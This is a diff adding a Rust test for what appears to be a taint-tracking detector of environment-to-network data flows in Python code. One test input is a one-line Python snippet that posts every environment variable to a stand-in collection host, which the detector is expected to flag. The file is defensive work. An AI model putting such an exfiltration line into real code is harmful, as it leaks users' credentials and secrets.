@@ -420,3 +420,24 @@ fn game_launcher_account_stores_are_credentials_sent_only_to_their_own_service()
         "{profiles:?}"
     );
 }
+
+#[test]
+fn a_comprehension_variable_is_not_the_functions_variable_of_that_name() {
+    // `key` in the comprehension is the comprehension's own; the parameter `key` sent to a local server
+    // is the caller's, and the environment copy is never sent.
+    let quiet = py(
+        "import os, urllib.request\n\ndef status(port, key):\n    req = urllib.request.Request(\"https://models.example.invalid/v1\", headers={\"Authorization\": key})\n    return urllib.request.urlopen(req)\n\ndef configure(port):\n    env = {key: value for key, value in os.environ.items() if not key.startswith(\"GIT_\")}\n    key = stable_key()\n    status(port, key)\n    return env\n",
+    );
+    assert!(
+        quiet.iter().all(|f| f.0 != FlowKind::EnvironmentToNetwork),
+        "{quiet:?}"
+    );
+    // The comprehension's own variable still carries what it iterates to a send inside it.
+    let fire = py(
+        "import os, requests\n[requests.post(\"https://collect.example.invalid/e\", data=v) for k, v in os.environ.items()]\n",
+    );
+    assert!(
+        fire.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
+        "{fire:?}"
+    );
+}
